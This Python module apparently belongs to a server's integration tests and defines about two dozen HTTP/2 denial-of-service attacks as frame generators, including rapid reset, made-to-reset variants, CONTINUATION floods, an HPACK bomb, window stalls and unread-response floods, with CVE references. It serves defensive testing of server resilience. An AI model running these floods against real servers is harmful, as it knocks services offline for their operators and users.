"""Attacks on HTTP/2 servers: frames that cost a server more than they cost the client.

Rules of this module:

* an attack is a generator that writes frames and yields how many there were; whoever runs it sends them, and looks
  for an answer before it asks for more (see :mod:`tests.integration.h2_floods`);
* frames are of the right form unless their being wrong is the attack.
"""

from __future__ import annotations

import time
from collections.abc import Callable, Iterator
from typing import NamedTuple

from tests.integration.h2peer import (
    END_HEADERS,
    END_STREAM,
    LARGEST_WINDOW,
    PADDED,
    PREFACE,
    Peer,
    Setting,
    continuation,
    data,
    dependency,
    headers,
    ping,
    priority,
    reset,
    settings,
    window_update,
)

#: Frames in a batch.
BATCH = 50
#: What no attack goes beyond, in frames.
MOST = 20_000
#: Nor one whose answers are never read.
UNREAD = 400_000

Play = Callable[[Peer], Iterator[int]]


class Attack(NamedTuple):
    """One attack.

    ``ends`` says that a server has to end the connection before :data:`MOST`; otherwise it may also stand it, as long
    as neither time nor memory of others are at stake. ``deaf`` never reads. ``target`` is what is asked for: ``slow``
    keeps a backend at work, ``large`` doesn't end soon.
    """

    name: str
    text: str
    play: Play
    ends: bool = True
    deaf: bool = False
    #: Sends the preface itself.
    raw: bool = False
    #: Seconds to wait for the end after the last frame.
    hold: float = 1.0
    target: str = ""


def _each(make: Callable[[Peer, bytes, int], tuple[bytes, ...]], *, post: bool = False) -> Play:
    """An attack that does the same on one stream after another."""

    def play(peer: Peer) -> Iterator[int]:
        method = "POST" if post else "GET"
        peer.write(headers(1, peer.block(method)))
        yield 1
        block = peer.block(method)  # all of it in the table by now: the same bytes mean the same
        sent = 0
        for stream in range(3, MOST, 2):
            frames = make(peer, block, stream)
            peer.write(*frames)
            sent += len(frames)
            if sent >= BATCH:
                yield sent
                sent = 0

    return play


def _same(make: Callable[[Peer], bytes], first: Callable[[Peer], bytes] | None = None) -> Play:
    """An attack that sends one frame again and again, after another one."""

    def play(peer: Peer) -> Iterator[int]:
        if first is not None:
            peer.write(first(peer))
        batch = make(peer) * BATCH
        for _ in range(MOST // BATCH):
            peer.write(batch)
            yield BATCH

    return play


def _settings(peer: Peer) -> Iterator[int]:
    for number in range(MOST // BATCH):
        peer.write(settings((Setting.INITIAL_WINDOW_SIZE, 60_000 + number)) * BATCH)
        yield BATCH


def _priorities(peer: Peer) -> Iterator[int]:
    for at in range(1, 2 * MOST, 2 * BATCH):
        peer.write(*(priority(stream, dependency(stream + 2)) for stream in range(at, at + 2 * BATCH, 2)))
        yield BATCH


def _continuations(peer: Peer) -> Iterator[int]:
    peer.write(headers(1, peer.block(), END_STREAM))
    yield 1
    # without indexing: nothing but the list of fields can grow
    fields = b"".join(b"\x00\x06x-%04d\x40" % number + b"v" * 64 for number in range(3))
    for _ in range(MOST // BATCH):
        peer.write(continuation(1, fields, 0) * BATCH)
        yield BATCH


def _bomb(peer: Peer) -> Iterator[int]:
    entry = "b" * 4000
    peer.write(headers(1, peer.block("GET", ("x-bomb", entry))))
    yield 1
    block = peer.block("GET", ("x-bomb", entry))
    reference = block[-1:]  # one byte for 4,000
    for stream in range(3, 203, 2):
        peer.write(headers(stream, block + reference * (16_000 - len(block))))
        yield 1


def _stall(peer: Peer) -> Iterator[int]:
    peer.write(settings((Setting.INITIAL_WINDOW_SIZE, 0)))
    block = peer.block()
    limit = min(peer.settings.get(Setting.MAX_CONCURRENT_STREAMS, 100), 100)
    for stream in range(1, 2 * limit, 2):
        peer.write(headers(stream, block if stream == 1 else peer.block()))
    yield limit


def _crowd(peer: Peer) -> Iterator[int]:
    peer.write(settings((Setting.INITIAL_WINDOW_SIZE, 0)))
    limit = min(peer.settings.get(Setting.MAX_CONCURRENT_STREAMS, 100), 1000)
    sent = 0
    for stream in range(1, 20 * limit, 2):
        peer.write(headers(stream, peer.block()))
        sent += 1
        if sent == BATCH:
            yield sent
            sent = 0
    yield sent


def _slow_preface(peer: Peer) -> Iterator[int]:
    for byte in PREFACE[:-1]:
        peer.write(bytes([byte]))
        yield 0
        time.sleep(0.4)


def _drip(peer: Peer) -> Iterator[int]:
    peer.write(settings((Setting.INITIAL_WINDOW_SIZE, 0)), headers(1, peer.block()))
    yield 2
    for _ in range(MOST // BATCH):
        peer.write(window_update(1, 1) * BATCH)
        yield BATCH


def _unread(peer: Peer) -> Iterator[int]:
    # more than what the kernel keeps of the answers
    for _ in range(UNREAD // 4000):
        peer.write(ping() * 4000)
        yield 4000


def _unread_resets(peer: Peer) -> Iterator[int]:
    """Frames that provoke answers of their own, on streams that are long closed."""
    peer.write(headers(1, peer.block()))
    yield 1
    time.sleep(0.1)
    for _ in range(UNREAD // 4000):
        peer.write(data(1, b"", END_STREAM) * 4000)
        yield 4000


def _unread_responses(peer: Peer) -> Iterator[int]:
    peer.write(settings((Setting.INITIAL_WINDOW_SIZE, LARGEST_WINDOW)), window_update(0, LARGEST_WINDOW - 65_535))
    yield 2
    for stream in range(1, 2 * min(peer.settings.get(Setting.MAX_CONCURRENT_STREAMS, 100), 100), 2):
        peer.write(headers(stream, peer.block()))
        yield 1
    time.sleep(1.0)


ATTACKS: tuple[Attack, ...] = (
    Attack(
        "rapid-reset",
        "requests, each taken back at once (CVE-2023-44487)",
        _each(lambda p, b, s: (headers(s, b), reset(s))),
        target="slow",
    ),
    # the server is made to reset, and the stream is free, while a backend still works (CVE-2025-8671)
    Attack(
        "made-to-reset-by-no-increment",
        "requests, each with a WINDOW_UPDATE by 0",
        _each(lambda p, b, s: (headers(s, b), window_update(s, 0))),
        target="slow",
    ),
    Attack(
        "made-to-reset-by-overflow",
        "requests, each with a window beyond 2^31-1",
        _each(lambda p, b, s: (headers(s, b), window_update(s, LARGEST_WINDOW))),
        target="slow",
    ),
    Attack(
        "made-to-reset-by-data",
        "requests, each with DATA after their end",
        _each(lambda p, b, s: (headers(s, b), data(s, b"more"))),
        target="slow",
    ),
    Attack(
        "made-to-reset-by-headers",
        "requests, each with HEADERS after their end",
        _each(lambda p, b, s: (headers(s, b), headers(s, b))),
        target="slow",
    ),
    Attack(
        "made-to-reset-by-priority-length",
        "requests, each with a PRIORITY of 4 bytes",
        _each(lambda p, b, s: (headers(s, b), priority(s, bytes(4)))),
        target="slow",
    ),
    Attack(
        "made-to-reset-by-dependency",
        "requests, each with a PRIORITY that depends on itself",
        _each(lambda p, b, s: (headers(s, b), priority(s, dependency(s)))),
        target="slow",
    ),
    Attack(
        "made-to-reset-by-length",
        "uploads with more than their content-length says",
        _each(
            lambda p, b, s: (
                headers(s, p.block("POST", ("content-length", "1")), END_HEADERS),
                data(s, b"more", END_STREAM),
            )
        ),
        target="slow",
    ),
    Attack(
        "malformed",
        "requests with a name in upper case",
        _each(lambda p, b, s: (headers(s, b + b"\x00\x01X\x01x"),)),
    ),
    Attack("continuation", "a header block without end (CVE-2024-27316)", _continuations),
    Attack(
        "empty-continuation",
        "a header block without end, of empty pieces",
        _same(lambda p: continuation(1, b"", 0), lambda p: headers(1, p.block(), END_STREAM)),
    ),
    Attack("ping", "PINGs", _same(lambda p: ping())),
    Attack("settings", "SETTINGS", _settings),
    Attack("priority", "PRIORITYs of idle streams", _priorities),
    Attack(
        "empty-data",
        "DATA without bytes",
        _same(lambda p: data(1), lambda p: headers(1, p.block("POST"), END_HEADERS)),
    ),
    Attack(
        "padding",
        "DATA of nothing but padding",
        _same(lambda p: data(1, b"\x00", PADDED), lambda p: headers(1, p.block("POST"), END_HEADERS)),
    ),
    Attack("unknown", "frames of an unknown type", _same(lambda p: b"\x00\x00\x00\xfa\x00\x00\x00\x00\x00")),
    Attack("connection-window", "the connection's window, a byte at a time", _same(lambda p: window_update(0, 1))),
    Attack("bomb", "many references to one large field", _bomb, ends=False),
    Attack("stall", "large responses that are never let go", _stall, hold=15.0, target="large"),
    Attack("crowd", "ten times as many streams as there may be", _crowd, ends=False, target="large"),
    Attack("slow-preface", "a preface that takes its time", _slow_preface, raw=True),
    Attack("drip", "a large response, a byte at a time", _drip, target="large"),
    Attack("unread-pings", "PINGs whose answers are not read", _unread, deaf=True, ends=False),
    Attack("unread-errors", "DATA on a closed stream, and nothing is read", _unread_resets, deaf=True, ends=False),
    Attack(
        "unread-responses",
        "large responses at once, windows as large as can be, and nothing is read",
        _unread_responses,
        deaf=True,
        ends=False,
        target="large",
    ),
)
